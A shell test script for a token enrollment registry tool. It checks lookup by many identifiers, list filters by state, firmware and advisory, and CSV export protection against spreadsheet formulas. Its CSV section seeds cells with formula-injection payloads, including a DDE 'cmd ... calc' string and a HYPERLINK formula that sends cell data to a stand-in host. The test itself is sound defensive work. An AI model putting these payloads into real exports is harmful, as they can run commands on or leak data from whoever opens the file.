#!/bin/sh
# SPDX-License-Identifier: BSD-2-Clause
# Does show find a thing by each of its names, and list by each filter? Is CSV no formula to a spreadsheet?
set -u
cd "$(dirname "$0")" || exit 1
. ./lib.sh
in_lab "$(pwd)/registry.sh" --tokens 2 --firmware 5.4.3
make_ca >"$T/init.log" 2>&1
db=$T/home/registry.db
serials=$(ykenroll token list --json | jq -r '.tokens[].serial // .tokens[].token' | sort -n)
first=$(echo "$serials" | head -1) second=$(echo "$serials" | tail -1)
claim "two tokens are enrolled" sh -c '. ./lib.sh; enroll "Alice Adams" alice@example.org --upn alice@corp.example -d '"$first"' &&
	enroll "Bob Brown" bob@example.org -d '"$second"
sqlite3 "$db" "UPDATE holders SET external='E-4711', directory='CN=Alice,OU=Lab,DC=corp' WHERE name='Alice Adams'"

# ---- show: whom a word means ----
finds() { ykenroll show "$1" --json >"$T/o" && [ "$(jq -r '.holder.id' "$T/o")" = "$2" ]; }
for word in 'Alice Adams' 'alice adams' alice@example.org ALICE@Example.ORG e-4711 alice@corp.example 'CN=Alice,OU=Lab,DC=corp' "$first"; do
	claim "show $word is Alice" finds "$word" alice@example.org
done
hex=$(sqlite3 "$db" "SELECT hex(serial) FROM certificates WHERE token=$first")
dec=$(python3 -c "print(int('$hex', 16))")
low=$(echo "$hex" | tr A-F a-f)
colons=$(echo "$hex" | sed 's/../&:/g;s/:$//')
for word in "$hex" "$low" "0x$hex" "0X$low" "$colons" "$(echo "$colons" | tr A-F a-f)" "$(echo "$colons" | tr : ' ')" \
	"$(echo "$colons" | tr : -)" "00$hex" "00:$colons" "serial=$hex" "$dec" " $dec "; do
	claim "the certificate $word is Alice's" finds "$word" alice@example.org
done
claim "enroll writes a name as it is searched for" [ "$(sqlite3 "$db" "SELECT folded FROM holders WHERE key = 'alice@example.org'")" = 'alice adams' ]
# and as a release before that column has left it, and what came after it
sqlite3 "$db" "INSERT INTO holders (key, name, email, upn, made, changed) VALUES ('zoe@example.org', 'Zoë Müller-Weiß', '', '', 1, 1);
	DROP INDEX holders_folded; ALTER TABLE holders DROP COLUMN folded; ALTER TABLE works DROP COLUMN days_kept;
	PRAGMA user_version = $(($(sqlite3 "$db" 'PRAGMA user_version') - 2))"
for word in 'Zoë Müller-Weiß' 'zoe muller-weiss' 'ZOË MÜLLER-WEISS' "$(printf 'zoe\314\210 mu\314\210ller-weiss')"; do
	claim "$word is Zoë" finds "$word" zoe@example.org
done
exits 2 ' nobody.*--holder' "nobody is not found" ykenroll show nobody
exits 2 ' [0-9]+; .*--holder' "neither is a serial that is one off" ykenroll show "$(python3 -c "print(int('$hex', 16) + 1)")"
sqlite3 "$db" "UPDATE holders SET name='Bob Brown' WHERE name='Alice Adams'"
exits 6 'Bob Brown' "a name that two holders have is refused" ykenroll show 'Bob Brown'
claim "by e-mail each is found" finds alice@example.org alice@example.org
sqlite3 "$db" "UPDATE holders SET name='Alice Adams' WHERE key='alice@example.org'"
claim "show says what is in escrow, and no secret" sh -c 'ykenroll show alice@example.org >"$T/o" && grep -q "management-key 1  current" "$T/o" &&
	grep -q "puk 1  current" "$T/o"'
claim "revoke takes the decimal serial" sh -c "ykenroll revoke $dec --reason superseded --token damaged --ca-pass file:$T/pass && ykenroll show $hex --json |
	jq -e '.tokens[].certificates[] | .state == \"revoked\" and .reason == \"superseded\"'"

# ---- list: what fits ----
lists() { # lists TEXT TOKENS OPTIONS…
	what=$1 want=$2
	shift 2
	claim "list $what" [ "$(ykenroll list --json "$@" | jq -r '[.tokens[].token] | join(" ")')" = "$want" ]
}
lists "all" "$first $second"
lists "of Bob" "$second" --holder bob@example.org
lists "active" "$second" --state active
lists "damaged or active" "$first $second" --state damaged,active
lists "retired" "" --state retired
lists "expiring in 30 days" "" --expiring 30d
lists "expiring in 20 years" "$second" --expiring 7300d
for v in '<5.7' '5.4' '5.4.3' '=5' '>=5.4.3' '<=5.4' '>5.3' '<5.4.4'; do lists "firmware $v" "$first $second" --firmware "$v"; done
for v in '<5.4.3' '5.7' '>5.4' '>5.4.3' '<0' '>255.255.255' '<=5.3'; do lists "firmware $v" "" --firmware "$v"; done
lists "EUCLEAK" "$first $second" --advisory EUCLEAK
lists "ysa-2024-03" "$first $second" --advisory ysa-2024-03
lists "ROCA: not of EC keys" "" --advisory ROCA
sqlite3 "$db" "UPDATE tokens SET firmware=x'040303' WHERE serial=$first; UPDATE works SET key_alg=5 WHERE token=$first"
lists "ROCA: RSA of 4.3.3" "$first" --advisory roca
sqlite3 "$db" "UPDATE tokens SET firmware=x'050700' WHERE serial=$second"
lists "EUCLEAK: not of 5.7.0" "" --advisory EUCLEAK
lists "any" "$first" --advisory any
for words in '--expiring soon' '--expiring 30x' '--state lively' '--firmware five' '--firmware <>5' '--advisory HEARTBLEED' '--holder nobody' '--csv --json'; do
	exits 2 '' "list $words is refused" ykenroll list $words
done

# ---- CSV: 60 cells ----
python3 - "$db" >"$T/cells" <<'PY'
import sqlite3, sys
starts = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u00a0="]
bodies = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x/?\"&A1,\"y\")", "x\",=1+1,\""]
db = sqlite3.connect(sys.argv[1])
n = 0
for s in starts:
    for b in bodies:
        n += 1
        db.execute("INSERT INTO holders (key, name, email, upn, made, changed) VALUES (?, ?, '', '', 1, 1)", ("k%d@x" % n, s + b))
        db.execute("INSERT INTO tokens (serial, firmware, state, holder, changed) VALUES (?, x'050403', 'lost', last_insert_rowid(), 1)", (n,))
db.commit()
print(n)
PY
claim "60 cells" [ "$(cat "$T/cells")" = 60 ]
claim "no cell of them starts a formula, and each is one cell" sh -c 'ykenroll list --csv --state lost >"$T/csv" && python3 - "$T/csv" <<PY
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
bad = [c for r in rows for c in r if c.lstrip(" \u00a0")[:1] in tuple("=+-@\t\r\n|%\uff1d\uff0b\uff0d\uff20")]
print(len(rows), bad)
sys.exit(len(rows) != 61 or any(len(r) != len(rows[0]) for r in rows) or bool(bad))
PY'
claim "a spreadsheet's own reader agrees (sqlite3 .import)" sh -c 'sqlite3 "$T/x.db" ".mode csv" ".import $T/csv t" && [ "$(sqlite3 "$T/x.db" "SELECT count(*) FROM t WHERE state=\"lost\"")" = 60 ]'
finish
